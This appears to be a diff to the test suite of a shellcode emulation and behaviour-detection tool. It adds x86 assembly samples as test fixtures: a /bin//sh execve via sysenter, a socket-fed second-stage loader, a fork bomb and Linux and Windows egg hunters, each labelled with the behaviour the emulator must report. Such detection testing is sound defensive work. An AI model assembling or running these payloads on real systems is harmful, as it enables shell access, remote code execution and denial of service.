@@ -10,7 +10,7 @@ from eudaemon.payload.shellcode.behaviour import Executes
 from eudaemon.payload.shellcode.emulation.limits import Limits
 from eudaemon.payload.shellcode.emulation.trial import emulate
 from eudaemon.payload.shellcode.report import Report
-from payload.shellcode.assembling import KERNEL32, under_dword_xor, under_feedback, under_xor, windows32
+from payload.shellcode.assembling import KERNEL32, assemble, under_dword_xor, under_feedback, under_xor, windows32
 from payload.shellcode.shellcodes import SHELLCODES, bind_cmd, connect_back_cmd, download_and_execute
 
 PATIENT = Limits(seconds_max=30.0)  # what is asked here is what is found, not how fast
@@ -106,3 +106,26 @@ def test_a_report_survives_the_way_between_processes() -> None:
     report = emulate(connect_back_cmd(), limits=PATIENT, listing=True)
     assert report is not None
     assert Report.from_json(report.as_json()) == report
+
+
+EGG = "mov eax, 0x50905090\nmov edi, ecx\nscasd\njne 2b\njmp edi\n"
+OTHERS = {
+    "sysenter": ("push 0\npush 0x68732f2f\npush 0x6e69622f\nmov ebx, esp\nxor ecx, ecx\nxor edx, edx\npush 11\n"
+                 "pop eax\nsysenter\n", "executes /bin//sh"),
+    "inherited connection": ("xor ebx, ebx\nmov ecx, esp\nmov edx, 0x200\npush 3\npop eax\nint 0x80\njmp ecx\n",
+                             "receives code and runs it (a second stage)"),
+    "fork bomb": ("1: push 2\npop eax\nint 0x80\njmp 1b\n", "fills the machine with its own processes"),
+    # Asks the kernel page by page whether memory is there, and compares.
+    "egg hunter": ("xor ecx, ecx\n1: or cx, 0xfff\n2: inc ecx\npush 67\npop eax\nint 0x80\ncmp al, 0xf2\nje 1b\n" + EGG,
+                   "searches the memory for more code (an egg hunter)"),
+    "egg hunter of Windows": ("xor ecx, ecx\n1: or cx, 0xfff\n2: inc ecx\nmov edx, ecx\npush 2\npop eax\nint 0x2e\n"
+                              "cmp al, 5\nje 1b\n" + EGG, "searches the memory for more code (an egg hunter)"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("way", OTHERS)
+def test_other_ways(way: str) -> None:
+    source, does = OTHERS[way]
+    report = emulate(assemble("x86", source), limits=PATIENT)
+    assert report is not None
+    assert does in [str(behaviour) for behaviour in report.behaviours]
